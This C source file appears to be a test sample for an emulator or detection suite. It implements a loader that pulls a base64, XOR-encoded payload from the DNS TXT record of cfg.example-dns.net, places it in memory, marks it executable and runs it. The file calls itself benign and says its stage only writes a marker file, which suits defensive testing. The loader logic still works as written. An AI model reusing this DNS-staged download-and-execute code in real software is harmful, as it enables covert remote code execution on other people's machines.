/*
 * loader.c - generality suite: a DNS TXT answer (DnsQuery_A, DNS_TYPE_TEXT) -> its strings joined
 * -> base64 (CryptStringToBinaryA) -> rolling XOR -> RW memory -> RX -> called. Benign,
 * emulator-only (see ../../lineage-common/common.h).
 *
 * Queries the TXT record of cfg.example-dns.net, joins its strings into a stack buffer, decodes
 * the base64 with CryptStringToBinaryA, XORs it with the rolling key 0x4b + 9*i into a new
 * PAGE_READWRITE allocation, makes that PAGE_EXECUTE_READ and calls it. The stage
 * (../../lineage-common/payload.c) writes C:\Users\Public\lineage_dns.txt.
 * Exit codes: 0 ok, 1 no marker, 2 dns, 3 base64, 4 memory.
 */
#include "common.h"
#include <wincrypt.h>
#include <windns.h>

void Entry(void)
{
    static struct sc_ctx ctx;
    typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);
    char text[4096];
    BYTE raw[3072];
    PDNS_RECORD rec = 0;
    DWORD total = 0, i, n = sizeof(raw), old;
    const char *s;
    unsigned char *mem;

    if (!marker_present())
        ExitProcess(1);
    if (DnsQuery_A("cfg.example-dns.net", DNS_TYPE_TEXT, DNS_QUERY_STANDARD, 0, &rec, 0) != 0 || !rec)
        ExitProcess(2);
    for (i = 0; i < rec->Data.TXT.dwStringCount; i++)
        for (s = rec->Data.TXT.pStringArray[i]; *s && total < sizeof(text) - 1; s++)
            text[total++] = *s;
    DnsRecordListFree(rec, DnsFreeRecordList);
    if (total < 64)
        ExitProcess(2);
    if (!CryptStringToBinaryA(text, total, CRYPT_STRING_BASE64, raw, &n, 0, 0) || n == 0)
        ExitProcess(3);
    mem = (unsigned char *)VirtualAlloc(0, n, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(4);
    for (i = 0; i < n; i++)
        mem[i] = raw[i] ^ (unsigned char)(0x4b + i * 9);
    if (!VirtualProtect(mem, n, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_dns.txt", "carried by a DNS TXT record\n");
    ExitProcess(((entry_t)(void *)mem)(&ctx) ? 5 : 0);
}
